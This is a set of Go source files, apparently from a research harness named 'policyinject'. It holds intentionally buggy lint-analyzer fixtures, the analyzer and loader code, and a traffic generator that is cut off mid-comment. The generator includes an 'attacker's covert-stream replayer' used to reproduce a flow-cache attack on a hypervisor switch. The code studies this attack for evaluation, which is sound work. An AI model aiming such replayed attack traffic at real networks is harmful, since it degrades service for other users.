	return &Gen{Seed: uint64(time.Now().UnixNano())} // want: wall-clock seed
}

// Reseed seeds from the wall clock in an assignment.
func (g *Gen) Reseed() {
	g.Seed = uint64(time.Now().UnixNano()) // want: wall-clock seed
	g.last = g.Seed
}
