package lock

import "sync"

// Stats uses an RWMutex; the convention is the same.
type Stats struct {
	mu   sync.RWMutex
	hits uint64
}

// Hits breaks rule three: an exported method reads a guarded field
// without taking the lock.
func (s *Stats) Hits() uint64 {
	return s.hits // want: guarded field without lock
}

// HitsSafe is the correct shape.
func (s *Stats) HitsSafe() uint64 {
	s.mu.RLock()
	defer s.mu.RUnlock()
	return s.hits
}

// Bump is correct too: write under the lock.
func (s *Stats) Bump() {
	s.mu.Lock()
	s.hits++
	s.mu.Unlock()
}
