package lock

import "sync"

// shard is one element of a sharded cache: //lint:sharded hardens the
// guarded-field rule to every function that touches it.
//
//lint:sharded
type shard struct {
	mu sync.RWMutex
	n  int
}

// Cache fans out over shards.
type Cache struct {
	shards []shard
}

// Len reads a shard's guarded field through a named handle without the
// shard lock — flagged even though Cache itself carries no mutex and
// Len is a method of Cache, not shard.
func (c *Cache) Len() int {
	total := 0
	for i := range c.shards {
		sh := &c.shards[i]
		total += sh.n // want: sharded field without lock
	}
	return total
}

// drain writes a guarded shard field from an unexported plain function:
// the sharded rule applies beyond exported methods.
func drain(sh *shard) {
	sh.n = 0 // want: sharded field without lock
}

// LenSafe is the correct shape: RLock the shard before reading.
func (c *Cache) LenSafe() int {
	total := 0
	for i := range c.shards {
		sh := &c.shards[i]
		sh.mu.RLock()
		total += sh.n
		sh.mu.RUnlock()
	}
	return total
}

// resetLocked is also correct: the *Locked suffix asserts the caller
// holds the shard lock.
func resetLocked(sh *shard) {
	sh.n = 0
}
