// Package lock is a seeded-bad fixture for the lockdiscipline analyzer:
// violations of the *Locked naming convention against a mutex-bearing
// struct.
package lock

import "sync"

// Table carries the convention: mu guards the fields declared after it.
type Table struct {
	name string // before the mutex: unguarded
	mu   sync.Mutex
	n    int
	m    map[string]int
}

// flushLocked breaks rule two: a *Locked method must not self-lock.
func (t *Table) flushLocked() {
	t.mu.Lock() // want: self-lock in *Locked method
	defer t.mu.Unlock()
	t.n = 0
}

// Grow calls a *Locked method without holding the mutex.
func (t *Table) Grow() {
	t.growLocked() // want: call without lock held
}

// GrowSafe is the correct shape: lock, then call the *Locked method.
func (t *Table) GrowSafe() {
	t.mu.Lock()
	defer t.mu.Unlock()
	t.growLocked()
}

func (t *Table) growLocked() {
	t.n++
}

// Name may touch the unguarded field freely.
func (t *Table) Name() string { return t.name }
