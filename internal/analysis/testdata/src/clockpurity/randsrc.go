package det

import "math/rand"

// Draw mixes a global-source draw (flagged) with an explicitly seeded
// generator (clean) and a suppressed call.
func Draw(seed int64) int64 {
	n := rand.Int63() // want: global randomness
	r := rand.New(rand.NewSource(seed))
	n += r.Int63() // seeded *Rand method: clean
	//lint:allow clockpurity fixture demonstrates a justified suppression
	n += rand.Int63()
	return n
}
