// Package det is a seeded-bad fixture for the clockpurity analyzer: a
// deterministic package that reads the wall clock and the global rand
// source.
//
//lint:deterministic
package det

import (
	"time"
)

// Tick leaks wall time into a deterministic package twice.
func Tick() time.Duration {
	start := time.Now()      // want: time.Now
	return time.Since(start) // want: time.Since
}

// Hold is fine: durations are values, not clock reads.
func Hold(d time.Duration) time.Duration { return 2 * d }
