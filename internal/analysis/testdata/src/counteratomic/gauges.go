package counters

import "sync/atomic"

// Gauges mixes in the other direction: mostly atomic, one plain write.
//
//lint:atomiccounters
type Gauges struct {
	Depth uint64
	Peak  uint64
}

// Observe is the atomic side.
func (g *Gauges) Observe(d uint64) {
	atomic.StoreUint64(&g.Depth, d)
	atomic.StoreUint64(&g.Peak, max(atomic.LoadUint64(&g.Peak), d))
}

// Reset writes Depth plainly — flagged; the suppressed Peak write shows
// a justified single-owner reset.
func (g *Gauges) Reset() {
	g.Depth = 0 // want: plain access to mixed field Depth
	//lint:allow counteratomic fixture demonstrates a justified suppression
	g.Peak = 0
}

// Plain is an unannotated struct: mixing is not the analyzer's business.
type Plain struct{ N uint64 }

// Mix would be flagged if Plain were annotated.
func (p *Plain) Mix() uint64 {
	atomic.AddUint64(&p.N, 1)
	return p.N
}
