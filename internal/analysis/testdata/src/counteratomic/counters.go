// Package counters is a seeded-bad fixture for the counteratomic
// analyzer: one field of an annotated struct is bumped atomically but
// read plainly.
package counters

import "sync/atomic"

// Stats is held to one access discipline per field.
//
//lint:atomiccounters
type Stats struct {
	Hits   uint64
	Misses uint64
}

// Bump is the atomic side of the mixed field.
func (s *Stats) Bump() {
	atomic.AddUint64(&s.Hits, 1)
}

// Snapshot reads Hits plainly — the torn read the analyzer exists for.
// Misses is plain on both sides, so it stays clean.
func (s *Stats) Snapshot() (uint64, uint64) {
	return s.Hits, s.Misses // want: plain access to mixed field Hits
}

// Miss keeps Misses all-plain.
func (s *Stats) Miss() {
	s.Misses++
}
