package analysis

import (
	"go/ast"
	"go/token"
	"go/types"
	"path/filepath"
	"sort"
)

// CounterAtomic enforces a single access discipline per counter field:
// every field of a struct annotated //lint:atomiccounters must be
// accessed either always through sync/atomic or always plainly (under
// whatever serialization the owner documents) — never mixed. A counter
// bumped atomically in one sweep and read plainly in a String() method
// is exactly the torn-read bug class this catches at compile time.
var CounterAtomic = &Analyzer{
	Name: "counteratomic",
	Doc:  "forbid mixed atomic/plain access to //lint:atomiccounters struct fields",
	Run:  runCounterAtomic,
}

// counterField identifies one tracked field.
type counterField struct {
	typ   *types.Named
	field string
}

// fieldAccess is one access site.
type fieldAccess struct {
	pos    token.Pos
	atomic bool
}

func runCounterAtomic(pass *Pass) {
	tracked := collectCounterStructs(pass)
	if len(tracked) == 0 {
		return
	}
	accesses := make(map[counterField][]fieldAccess)
	for _, pkg := range pass.Prog.Pkgs {
		for _, f := range pkg.Files {
			collectFieldAccesses(pkg, f, tracked, accesses)
		}
	}
	keys := make([]counterField, 0, len(accesses))
	for k := range accesses {
		keys = append(keys, k)
	}
	sort.Slice(keys, func(i, j int) bool {
		if a, b := keys[i].typ.Obj().Name(), keys[j].typ.Obj().Name(); a != b {
			return a < b
		}
		return keys[i].field < keys[j].field
	})
	for _, k := range keys {
		sites := accesses[k]
		var firstAtomic token.Pos
		nAtomic := 0
		for _, s := range sites {
			if s.atomic {
				if nAtomic == 0 || s.pos < firstAtomic {
					firstAtomic = s.pos
				}
				nAtomic++
			}
		}
		if nAtomic == 0 || nAtomic == len(sites) {
			continue // one discipline throughout
		}
		at := pass.Prog.Fset.Position(firstAtomic)
		for _, s := range sites {
			if !s.atomic {
				pass.Reportf(s.pos, "plain access to %s.%s, which is accessed atomically at %s:%d (pick one discipline for the field)",
					k.typ.Obj().Name(), k.field, filepath.Base(at.Filename), at.Line)
			}
		}
	}
}

// collectCounterStructs finds the //lint:atomiccounters-annotated structs
// of the target packages.
func collectCounterStructs(pass *Pass) map[*types.Named]bool {
	out := make(map[*types.Named]bool)
	for _, pkg := range pass.Prog.TargetPackages() {
		for _, f := range pkg.Files {
			for _, d := range f.Decls {
				gd, ok := d.(*ast.GenDecl)
				if !ok {
					continue
				}
				for _, spec := range gd.Specs {
					ts, ok := spec.(*ast.TypeSpec)
					if !ok {
						continue
					}
					doc := ts.Doc
					if doc == nil {
						doc = gd.Doc
					}
					if !hasDirective(doc, DirAtomicCounters) {
						continue
					}
					if obj, ok := pkg.Info.Defs[ts.Name].(*types.TypeName); ok {
						if named, ok := obj.Type().(*types.Named); ok {
							out[named] = true
						}
					}
				}
			}
		}
	}
	return out
}

// collectFieldAccesses records every selector access to a tracked
// struct's field, classified as atomic (the &x.F operand of a
// sync/atomic call) or plain (anything else).
func collectFieldAccesses(pkg *Package, f *ast.File, tracked map[*types.Named]bool, accesses map[counterField][]fieldAccess) {
	info := pkg.Info
	// The selectors consumed by a sync/atomic call as &x.F.
	atomicArgs := make(map[*ast.SelectorExpr]bool)
	ast.Inspect(f, func(n ast.Node) bool {
		call, ok := n.(*ast.CallExpr)
		if !ok {
			return true
		}
		fn := calleeOf(info, call)
		if fn == nil || fn.Pkg() == nil || fn.Pkg().Path() != "sync/atomic" {
			return true
		}
		for _, arg := range call.Args {
			if ue, ok := ast.Unparen(arg).(*ast.UnaryExpr); ok && ue.Op == token.AND {
				if sel, ok := ast.Unparen(ue.X).(*ast.SelectorExpr); ok {
					atomicArgs[sel] = true
				}
			}
		}
		return true
	})
	ast.Inspect(f, func(n ast.Node) bool {
		sel, ok := n.(*ast.SelectorExpr)
		if !ok {
			return true
		}
		selInfo := info.Selections[sel]
		if selInfo == nil {
			return true
		}
		v, ok := selInfo.Obj().(*types.Var)
		if !ok || !v.IsField() {
			return true
		}
		owner := fieldOwner(selInfo)
		if owner == nil || !tracked[owner] {
			return true
		}
		k := counterField{typ: owner, field: v.Name()}
		accesses[k] = append(accesses[k], fieldAccess{pos: sel.Sel.Pos(), atomic: atomicArgs[sel]})
		return true
	})
}

// fieldOwner resolves the named struct type a field selection goes
// through (unwrapping one pointer).
func fieldOwner(selInfo *types.Selection) *types.Named {
	t := selInfo.Recv()
	if p, ok := t.(*types.Pointer); ok {
		t = p.Elem()
	}
	named, _ := t.(*types.Named)
	return named
}
