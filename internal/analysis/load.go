package analysis

import (
	"fmt"
	"go/ast"
	"go/importer"
	"go/parser"
	"go/token"
	"go/types"
	"os"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
)

// Package is one type-checked package of the loaded program.
type Package struct {
	Path  string // import path
	Dir   string // directory the files came from
	Files []*ast.File
	Types *types.Package
	Info  *types.Info

	// Target marks packages matched by the load patterns, as opposed to
	// module dependencies pulled in for type information. Analyzers
	// discover their directives in target packages.
	Target bool
}

// Program is the loaded, type-checked closure of the requested packages.
type Program struct {
	Fset       *token.FileSet
	Pkgs       []*Package // dependency order (imports precede importers)
	ByPath     map[string]*Package
	ModulePath string
	Root       string // module root directory
}

// TargetPackages returns the packages matched by the load patterns.
func (prog *Program) TargetPackages() []*Package {
	var out []*Package
	for _, p := range prog.Pkgs {
		if p.Target {
			out = append(out, p)
		}
	}
	return out
}

// Load parses and type-checks the packages matched by patterns (Go
// package patterns relative to the module root: "./...", "./internal/...",
// "./internal/cache") plus every module-internal dependency they need.
// dir is any directory inside the module; the module root is found by
// walking up to go.mod. Test files are not loaded: the invariants the
// analyzers enforce are production-code contracts.
func Load(dir string, patterns []string) (*Program, error) {
	root, modPath, err := findModule(dir)
	if err != nil {
		return nil, err
	}
	prog := &Program{
		Fset:       token.NewFileSet(),
		ByPath:     make(map[string]*Package),
		ModulePath: modPath,
		Root:       root,
	}

	targets := make(map[string]bool) // import path -> matched by a pattern
	for _, pat := range patterns {
		dirs, err := expandPattern(root, pat)
		if err != nil {
			return nil, err
		}
		for _, d := range dirs {
			rel, err := filepath.Rel(root, d)
			if err != nil {
				return nil, err
			}
			ip := modPath
			if rel != "." {
				ip = modPath + "/" + filepath.ToSlash(rel)
			}
			targets[ip] = true
		}
	}
	if len(targets) == 0 {
		return nil, fmt.Errorf("analysis: no packages match %v", patterns)
	}

	// Parse the closure: targets first, then every module-internal import
	// not yet loaded.
	parsed := make(map[string]*Package)
	queue := make([]string, 0, len(targets))
	for ip := range targets {
		queue = append(queue, ip)
	}
	sort.Strings(queue)
	for len(queue) > 0 {
		ip := queue[0]
		queue = queue[1:]
		if _, ok := parsed[ip]; ok {
			continue
		}
		pkg, err := prog.parsePackage(ip)
		if err != nil {
			return nil, err
		}
		pkg.Target = targets[ip]
		parsed[ip] = pkg
		for _, imp := range packageImports(pkg.Files) {
			if strings.HasPrefix(imp, modPath+"/") || imp == modPath {
				if _, ok := parsed[imp]; !ok {
					queue = append(queue, imp)
				}
			}
		}
	}

	order, err := dependencyOrder(parsed, modPath)
	if err != nil {
		return nil, err
	}
	checker := newTypeChecker(prog)
	for _, ip := range order {
		pkg := parsed[ip]
		if err := checker.check(pkg); err != nil {
			return nil, err
		}
		prog.Pkgs = append(prog.Pkgs, pkg)
		prog.ByPath[ip] = pkg
	}
	return prog, nil
}

// LoadDir loads one directory as a standalone single package (stdlib
// imports only) — the fixture loader the golden-diagnostic tests use for
// the seeded-bad testdata corpus, which must stay invisible to the go
// tool itself.
func LoadDir(dir string) (*Program, error) {
	abs, err := filepath.Abs(dir)
	if err != nil {
		return nil, err
	}
	prog := &Program{
		Fset:       token.NewFileSet(),
		ByPath:     make(map[string]*Package),
		ModulePath: "fixture",
		Root:       abs,
	}
	pkg := &Package{Path: "fixture/" + filepath.Base(abs), Dir: abs, Target: true}
	if err := parseDirInto(prog.Fset, pkg); err != nil {
		return nil, err
	}
	if err := newTypeChecker(prog).check(pkg); err != nil {
		return nil, err
	}
	prog.Pkgs = append(prog.Pkgs, pkg)
	prog.ByPath[pkg.Path] = pkg
	return prog, nil
}

// parsePackage parses the non-test files of the package at import path ip.
func (prog *Program) parsePackage(ip string) (*Package, error) {
	rel := strings.TrimPrefix(strings.TrimPrefix(ip, prog.ModulePath), "/")
	pkg := &Package{Path: ip, Dir: filepath.Join(prog.Root, filepath.FromSlash(rel))}
	if err := parseDirInto(prog.Fset, pkg); err != nil {
		return nil, err
	}
	return pkg, nil
}

// parseDirInto parses every non-test .go file of pkg.Dir into pkg.Files.
func parseDirInto(fset *token.FileSet, pkg *Package) error {
	entries, err := os.ReadDir(pkg.Dir)
	if err != nil {
		return fmt.Errorf("analysis: %w", err)
	}
	for _, e := range entries {
		name := e.Name()
		if e.IsDir() || !strings.HasSuffix(name, ".go") || strings.HasSuffix(name, "_test.go") {
			continue
		}
		f, err := parser.ParseFile(fset, filepath.Join(pkg.Dir, name), nil, parser.ParseComments)
		if err != nil {
			return fmt.Errorf("analysis: %w", err)
		}
		pkg.Files = append(pkg.Files, f)
	}
	if len(pkg.Files) == 0 {
		return fmt.Errorf("analysis: no Go files in %s", pkg.Dir)
	}
	return nil
}

// packageImports returns the distinct import paths of a parsed package.
func packageImports(files []*ast.File) []string {
	seen := make(map[string]bool)
	var out []string
	for _, f := range files {
		for _, imp := range f.Imports {
			path, err := strconv.Unquote(imp.Path.Value)
			if err != nil || seen[path] {
				continue
			}
			seen[path] = true
			out = append(out, path)
		}
	}
	sort.Strings(out)
	return out
}

// dependencyOrder topologically sorts the parsed module packages so each
// package is type-checked after its module-internal imports.
func dependencyOrder(parsed map[string]*Package, modPath string) ([]string, error) {
	var order []string
	state := make(map[string]int) // 0 unvisited, 1 visiting, 2 done
	var visit func(ip string) error
	visit = func(ip string) error {
		switch state[ip] {
		case 1:
			return fmt.Errorf("analysis: import cycle through %s", ip)
		case 2:
			return nil
		}
		state[ip] = 1
		for _, imp := range packageImports(parsed[ip].Files) {
			if _, ok := parsed[imp]; ok {
				if err := visit(imp); err != nil {
					return err
				}
			} else if strings.HasPrefix(imp, modPath+"/") {
				return fmt.Errorf("analysis: %s imports unloaded module package %s", ip, imp)
			}
		}
		state[ip] = 2
		order = append(order, ip)
		return nil
	}
	paths := make([]string, 0, len(parsed))
	for ip := range parsed {
		paths = append(paths, ip)
	}
	sort.Strings(paths)
	for _, ip := range paths {
		if err := visit(ip); err != nil {
			return nil, err
		}
	}
	return order, nil
}

// typeChecker type-checks module packages with a shared importer chain:
// module-internal imports resolve to already-checked packages, everything
// else falls through to the standard library source importer.
type typeChecker struct {
	prog *Program
	std  types.Importer
}

func newTypeChecker(prog *Program) *typeChecker {
	return &typeChecker{prog: prog, std: importer.ForCompiler(prog.Fset, "source", nil)}
}

// Import implements types.Importer over the chain.
func (tc *typeChecker) Import(path string) (*types.Package, error) {
	if pkg, ok := tc.prog.ByPath[path]; ok {
		return pkg.Types, nil
	}
	if path == tc.prog.ModulePath || strings.HasPrefix(path, tc.prog.ModulePath+"/") {
		return nil, fmt.Errorf("module package %s not loaded", path)
	}
	return tc.std.Import(path)
}

func (tc *typeChecker) check(pkg *Package) error {
	info := &types.Info{
		Types:      make(map[ast.Expr]types.TypeAndValue),
		Defs:       make(map[*ast.Ident]types.Object),
		Uses:       make(map[*ast.Ident]types.Object),
		Selections: make(map[*ast.SelectorExpr]*types.Selection),
		Implicits:  make(map[ast.Node]types.Object),
		Scopes:     make(map[ast.Node]*types.Scope),
	}
	var firstErr error
	cfg := types.Config{
		Importer: tc,
		Error: func(err error) {
			if firstErr == nil {
				firstErr = err
			}
		},
	}
	tpkg, err := cfg.Check(pkg.Path, tc.prog.Fset, pkg.Files, info)
	if firstErr != nil {
		return fmt.Errorf("analysis: type-checking %s: %w", pkg.Path, firstErr)
	}
	if err != nil {
		return fmt.Errorf("analysis: type-checking %s: %w", pkg.Path, err)
	}
	pkg.Types = tpkg
	pkg.Info = info
	return nil
}

// findModule walks up from dir to the enclosing go.mod, returning the
// module root and module path.
func findModule(dir string) (root, modPath string, err error) {
	abs, err := filepath.Abs(dir)
	if err != nil {
		return "", "", err
	}
	for d := abs; ; {
		data, err := os.ReadFile(filepath.Join(d, "go.mod"))
		if err == nil {
			for _, line := range strings.Split(string(data), "\n") {
				if rest, ok := strings.CutPrefix(strings.TrimSpace(line), "module "); ok {
					return d, strings.TrimSpace(rest), nil
				}
			}
			return "", "", fmt.Errorf("analysis: %s/go.mod has no module line", d)
		}
		parent := filepath.Dir(d)
		if parent == d {
			return "", "", fmt.Errorf("analysis: no go.mod above %s", abs)
		}
		d = parent
	}
}

// expandPattern resolves one package pattern to package directories.
func expandPattern(root, pat string) ([]string, error) {
	pat = filepath.ToSlash(pat)
	recursive := false
	if rest, ok := strings.CutSuffix(pat, "/..."); ok {
		recursive, pat = true, rest
	}
	if pat == "" || pat == "." || pat == "./" {
		pat = "."
	}
	base := filepath.Join(root, filepath.FromSlash(strings.TrimPrefix(pat, "./")))
	if st, err := os.Stat(base); err != nil || !st.IsDir() {
		return nil, fmt.Errorf("analysis: pattern %q: no such directory %s", pat, base)
	}
	if !recursive {
		if !hasGoFiles(base) {
			return nil, fmt.Errorf("analysis: no Go files in %s", base)
		}
		return []string{base}, nil
	}
	var dirs []string
	err := filepath.WalkDir(base, func(path string, d os.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if !d.IsDir() {
			return nil
		}
		name := d.Name()
		if path != base && (strings.HasPrefix(name, ".") || strings.HasPrefix(name, "_") || name == "testdata") {
			return filepath.SkipDir
		}
		if hasGoFiles(path) {
			dirs = append(dirs, path)
		}
		return nil
	})
	return dirs, err
}

// hasGoFiles reports whether dir directly contains non-test Go files.
func hasGoFiles(dir string) bool {
	entries, err := os.ReadDir(dir)
	if err != nil {
		return false
	}
	for _, e := range entries {
		name := e.Name()
		if !e.IsDir() && strings.HasSuffix(name, ".go") && !strings.HasSuffix(name, "_test.go") {
			return true
		}
	}
	return false
}
