package traffic

import (
	"net/netip"
	"testing"

	"policyinject/internal/flow"
)

func TestVictimFlowSet(t *testing.T) {
	v := NewVictim(VictimConfig{
		Src:    netip.MustParseAddr("172.16.0.10"),
		Dst:    netip.MustParseAddr("172.16.0.20"),
		Flows:  8,
		InPort: 3,
	})
	seen := map[flow.Key]int{}
	for i := 0; i < 80; i++ {
		seen[v.Next()]++
	}
	if len(seen) != 8 {
		t.Fatalf("distinct flows = %d, want 8", len(seen))
	}
	for k, n := range seen {
		if n != 10 {
			t.Errorf("flow %v visited %d times, want 10 (round robin)", k, n)
		}
		if got := k.Get(flow.FieldTPDst); got != 5201 {
			t.Errorf("dst port = %d, want iperf3 default", got)
		}
		if got := k.Get(flow.FieldInPort); got != 3 {
			t.Errorf("in_port = %d", got)
		}
	}
}

func TestVictimDefaults(t *testing.T) {
	v := NewVictim(VictimConfig{
		Src: netip.MustParseAddr("1.1.1.1"),
		Dst: netip.MustParseAddr("2.2.2.2"),
	})
	if len(v.Flows()) != 8 || v.FrameLen() != 1514 {
		t.Errorf("defaults: flows=%d frame=%d", len(v.Flows()), v.FrameLen())
	}
}

func TestMixDeterministic(t *testing.T) {
	a := NewMix(MixConfig{Seed: 42, NFlows: 100})
	b := NewMix(MixConfig{Seed: 42, NFlows: 100})
	for i := 0; i < 1000; i++ {
		if a.Next() != b.Next() {
			t.Fatalf("same seed diverged at packet %d", i)
		}
	}
	c := NewMix(MixConfig{Seed: 43, NFlows: 100})
	same := 0
	for i := 0; i < 1000; i++ {
		if a.Next() == c.Next() {
			same++
		}
	}
	if same == 1000 {
		t.Error("different seeds produced identical streams")
	}
}

func TestMixFlowsWithinSubnet(t *testing.T) {
	m := NewMix(MixConfig{
		Seed:   7,
		NFlows: 500,
		Subnet: netip.MustParsePrefix("10.1.0.0/16"),
	})
	if m.NFlows() != 500 {
		t.Fatalf("NFlows = %d", m.NFlows())
	}
	for i := 0; i < 2000; i++ {
		k := m.Next()
		src := k.Get(flow.FieldIPSrc)
		if src>>16 != 0x0a01 {
			t.Fatalf("src %#x outside 10.1/16", src)
		}
	}
}

func TestMixSkewIsHeadHeavy(t *testing.T) {
	m := NewMix(MixConfig{Seed: 1, NFlows: 1000, Skew: 0.9})
	counts := map[flow.Key]int{}
	const draws = 50000
	for i := 0; i < draws; i++ {
		counts[m.Next()]++
	}
	// The most popular flow must carry far more than the uniform share.
	max := 0
	for _, n := range counts {
		if n > max {
			max = n
		}
	}
	if max < draws/100 { // uniform share would be draws/1000
		t.Errorf("head flow carries %d of %d; skew not applied", max, draws)
	}
}

func TestReplayerCycles(t *testing.T) {
	keys := make([]flow.Key, 3)
	for i := range keys {
		keys[i].Set(flow.FieldIPSrc, uint64(i+1))
	}
	r := NewReplayer(keys)
	for round := 0; round < 4; round++ {
		for i := range keys {
			if got := r.Next(); got != keys[i] {
				t.Fatalf("round %d pos %d: wrong key", round, i)
			}
		}
	}
	if r.Len() != 3 {
		t.Errorf("Len = %d", r.Len())
	}
}

func TestReplayerPanicsOnEmpty(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Fatal("empty replayer did not panic")
		}
	}()
	NewReplayer(nil)
}

func TestPacerLongRunRate(t *testing.T) {
	p := &Pacer{PPS: 819.2} // the 8192-entry refresh rate over 10s
	total := 0
	const ticks = 1000
	for i := 0; i < ticks; i++ {
		total += p.Take(0.1) // 100 ms ticks
	}
	want := int(819.2 * 0.1 * ticks)
	if total < want-1 || total > want+1 {
		t.Errorf("emitted %d packets over %d ticks, want ~%d", total, ticks, want)
	}
}

func TestPacerEdgeCases(t *testing.T) {
	p := &Pacer{PPS: 0}
	if p.Take(1) != 0 {
		t.Error("zero rate emitted packets")
	}
	p = &Pacer{PPS: 100}
	if p.Take(0) != 0 || p.Take(-1) != 0 {
		t.Error("non-positive dt emitted packets")
	}
	// Sub-packet ticks accumulate.
	p = &Pacer{PPS: 1}
	got := 0
	for i := 0; i < 10; i++ {
		got += p.Take(0.25)
	}
	if got != 2 {
		t.Errorf("accumulated %d packets over 2.5s at 1pps", got)
	}
}
