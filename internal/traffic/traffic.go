// Package traffic provides the deterministic workload generators of the
// evaluation harness: the victim's iperf-like stream, benign multi-flow
// mixes, and the attacker's paced covert-stream replayer. Generators are
// seeded and allocation-free on the per-packet path so experiments are
// reproducible run to run.
//
//lint:deterministic
package traffic

import (
	"fmt"
	"math"
	"net/netip"

	"policyinject/internal/flow"
	"policyinject/internal/pkt"
)

// Generator produces the next packet of a stream as a flow key.
type Generator interface {
	Next() flow.Key
}

// FrameSource is the wire-level capability of a generator: the next packet
// as a raw Ethernet frame plus its ingress port, ready for the dataplane's
// frame-first ingress (dataplane.FrameBatch / ProcessFrames). All stock
// generators implement it; frame and key cursors are shared, so a consumer
// may interleave Next and NextFrame and see one stream.
type FrameSource interface {
	NextFrame() (frame []byte, inPort uint32)
}

// frameForKey renders a generator key as the wire frame the dataplane
// would have parsed it from (pkt.Build over the key's five-tuple, padded
// to frameLen). The frame re-extracts to the same L3/L4 fields; L2 fields
// the key path leaves zero (MACs, TCP flags) carry the builder defaults,
// exactly as real wire traffic would.
func frameForKey(k flow.Key, frameLen int) []byte {
	t := k.Tuple()
	return pkt.MustBuild(pkt.Spec{
		Src: t.Src, Dst: t.Dst, Proto: t.Proto,
		SrcPort: t.SrcPort, DstPort: t.DstPort,
		FrameLen: frameLen,
	})
}

// VictimConfig describes the victim workload: an iperf-like transfer of
// Flows parallel TCP connections from one client to one server, as in the
// paper's testbed (Fig. 3 measures this stream's throughput).
type VictimConfig struct {
	Src, Dst netip.Addr
	DstPort  uint16 // server port, default 5201 (iperf3)
	Flows    int    // parallel connections, default 8
	InPort   uint32 // ingress port at the hypervisor switch
	FrameLen int    // bytes on the wire, default 1514 (MTU frame)
}

// Victim is the victim stream generator: round-robins its flows,
// producing a stable set of Flows distinct 5-tuples (and, via NextFrame,
// the matching MTU-sized wire frames).
type Victim struct {
	cfg    VictimConfig
	keys   []flow.Key
	frames [][]byte // lazily built, aligned with keys
	next   int
}

// NewVictim builds the victim generator.
func NewVictim(cfg VictimConfig) *Victim {
	if cfg.DstPort == 0 {
		cfg.DstPort = 5201
	}
	if cfg.Flows <= 0 {
		cfg.Flows = 8
	}
	if cfg.FrameLen == 0 {
		cfg.FrameLen = 1514
	}
	v := &Victim{cfg: cfg}
	for i := 0; i < cfg.Flows; i++ {
		v.keys = append(v.keys, flow.FiveTuple{
			Src:     cfg.Src,
			Dst:     cfg.Dst,
			Proto:   uint8(flow.ProtoTCP),
			SrcPort: uint16(49152 + i),
			DstPort: cfg.DstPort,
		}.Key(cfg.InPort))
	}
	return v
}

// Next returns the next packet's key, round-robin over the flows.
func (v *Victim) Next() flow.Key {
	k := v.keys[v.next]
	v.next = (v.next + 1) % len(v.keys)
	return k
}

// NextFrame returns the next packet as a wire frame (FrameLen bytes) with
// its ingress port, advancing the same round-robin cursor as Next.
func (v *Victim) NextFrame() ([]byte, uint32) {
	if v.frames == nil {
		v.frames = make([][]byte, len(v.keys))
		for i, k := range v.keys {
			v.frames[i] = frameForKey(k, v.cfg.FrameLen)
		}
	}
	f := v.frames[v.next]
	v.next = (v.next + 1) % len(v.keys)
	return f, v.cfg.InPort
}

// FrameLen returns the configured frame size in bytes.
func (v *Victim) FrameLen() int { return v.cfg.FrameLen }

// Flows returns the distinct keys of the stream.
func (v *Victim) Flows() []flow.Key { return append([]flow.Key(nil), v.keys...) }

// MixConfig describes a benign multi-flow mix: NFlows distinct 5-tuples
// drawn deterministically from a subnet and port pool, visited with a
// skewed (approximately Zipfian) popularity so a handful of flows carry
// most packets — the traffic shape flow caches are designed for.
type MixConfig struct {
	Seed     uint64
	NFlows   int // default 1000
	Subnet   netip.Prefix
	DstIP    netip.Addr
	InPort   uint32
	Skew     float64 // 0 = uniform, 1 = heavy head; default 0.8
	FrameLen int     // wire frame size for NextFrame; 0 = minimal frames
}

// Mix is the benign mix generator.
type Mix struct {
	keys     []flow.Key
	frames   [][]byte // lazily built, aligned with keys
	lcg      uint64
	skew     float64
	inPort   uint32
	frameLen int
}

// NewMix builds the mix.
func NewMix(cfg MixConfig) *Mix {
	if cfg.NFlows <= 0 {
		cfg.NFlows = 1000
	}
	if cfg.Skew == 0 {
		cfg.Skew = 0.8
	}
	if !cfg.Subnet.IsValid() {
		cfg.Subnet = netip.MustParsePrefix("10.0.0.0/8")
	}
	if !cfg.DstIP.IsValid() {
		cfg.DstIP = netip.MustParseAddr("172.16.0.2")
	}
	m := &Mix{
		lcg: cfg.Seed*2862933555777941757 + 3037000493, skew: cfg.Skew,
		inPort: cfg.InPort, frameLen: cfg.FrameLen,
	}
	base := flow.V4(cfg.Subnet.Addr())
	span := uint64(1) << uint(32-cfg.Subnet.Bits())
	for i := 0; i < cfg.NFlows; i++ {
		m.lcg = m.lcg*6364136223846793005 + 1442695040888963407
		srcIP := base + m.lcg%span
		m.lcg = m.lcg*6364136223846793005 + 1442695040888963407
		sport := 1024 + uint16(m.lcg%60000)
		m.keys = append(m.keys, flow.FiveTuple{
			Src:     flow.V4Addr(srcIP),
			Dst:     cfg.DstIP,
			Proto:   uint8(flow.ProtoTCP),
			SrcPort: sport,
			DstPort: uint16(80 + i%3*363), // 80, 443, 806
		}.Key(cfg.InPort))
	}
	return m
}

// Next draws the next packet with skewed flow popularity: flow index
// floor(n^(u^(1/(1-skew)))) approximated by exponentiating a uniform draw.
func (m *Mix) Next() flow.Key {
	return m.keys[m.draw()]
}

// NextFrame draws the next packet as a wire frame with its ingress port,
// advancing the same skewed PRNG as Next.
func (m *Mix) NextFrame() ([]byte, uint32) {
	if m.frames == nil {
		m.frames = make([][]byte, len(m.keys))
		for i, k := range m.keys {
			m.frames[i] = frameForKey(k, m.frameLen)
		}
	}
	return m.frames[m.draw()], m.inPort
}

// draw advances the PRNG and picks the next flow index with the
// configured skew (push the uniform draw toward the head of the list).
func (m *Mix) draw() int {
	m.lcg = m.lcg*6364136223846793005 + 1442695040888963407
	u := float64(m.lcg>>11) / (1 << 53)
	idx := int(math.Pow(u, 1/(1-m.skew*0.999)) * float64(len(m.keys)))
	if idx >= len(m.keys) {
		idx = len(m.keys) - 1
	}
	return idx
}

// NFlows returns the number of distinct flows.
func (m *Mix) NFlows() int { return len(m.keys) }

// Replayer cycles through a fixed key sequence — the attacker's covert
// stream (attack.Keys) replayed forever at low rate. A plain Replayer is
// deliberately *not* a FrameSource: replay keys may carry fields no wire
// rendering could round-trip (or protocols the builder does not speak),
// so the frame capability is opt-in via WithFrames, which takes the
// faithful frames the caller already has (e.g. attack.Frames).
type Replayer struct {
	keys []flow.Key
	next int
}

// NewReplayer builds a replayer over keys; it panics on an empty sequence.
func NewReplayer(keys []flow.Key) *Replayer {
	if len(keys) == 0 {
		panic("traffic: empty replay sequence")
	}
	return &Replayer{keys: append([]flow.Key(nil), keys...)}
}

// WithFrames attaches the wire rendering of the replay sequence —
// frames[i] must be keys[i] on the wire — and the ingress port NextFrame
// reports, returning the FrameSource view of the replayer (cursor
